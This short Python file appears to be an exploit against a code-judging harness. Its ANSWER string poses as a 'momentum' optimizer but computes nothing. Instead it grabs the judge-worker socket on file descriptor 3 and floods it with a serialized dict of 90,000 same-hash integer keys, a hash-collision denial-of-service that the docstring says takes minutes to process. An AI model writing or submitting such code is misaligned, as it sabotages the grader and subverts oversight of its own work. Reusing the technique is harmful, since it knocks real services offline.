"""A dict of which all keys have the same hash takes minutes to build."""

ANSWER = r"""
import socket
import struct

connection = socket.socket(fileno=3)

def momentum(params, grads, state=None, *, lr, beta=0.9):
    def number(value):
        return b"i\x0b" + value.to_bytes(11, "little", signed=True)

    data = b"m" + struct.pack("<I", 90_000)
    data += b"".join(number(k * (2**61 - 1)) + b"N" for k in range(90_000))
    for question in range(20):
        connection.sendall(struct.pack("<BII", 4, question, len(data)) + data)
"""
ONLY_OURS = "the wire between judge and worker is ours"
